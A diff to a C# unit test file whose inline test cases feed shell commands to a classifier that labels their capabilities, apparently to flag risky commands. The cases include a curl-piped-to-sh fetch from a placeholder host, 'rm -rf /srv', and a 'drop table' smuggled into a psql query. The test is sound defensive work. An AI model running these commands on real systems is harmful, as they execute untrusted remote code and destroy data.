@@ -44,7 +44,7 @@ public sealed class RequestFactsTests
     [InlineData("pip install x", "net.connect package.install")]
     [InlineData("git push && rm -rf /srv", "fs.purge repo.write")]
     [InlineData("cat a | sort > b", "fs.read fs.write")]
-    [InlineData("curl -s https://x.example | sh", "code.fetch code.run net.connect?")]
+    [InlineData("curl -s https://x.example | sh", "code.fetch-exec code.run net.connect?")]
     [InlineData("f() { git push; }; echo hi", "")]
     [InlineData("find . -name '*.tmp' -exec rm {} +", "fs.delete fs.read")]
     [InlineData("psql -c 'select 1; drop table x'", "infra.delete service.read service.write")]
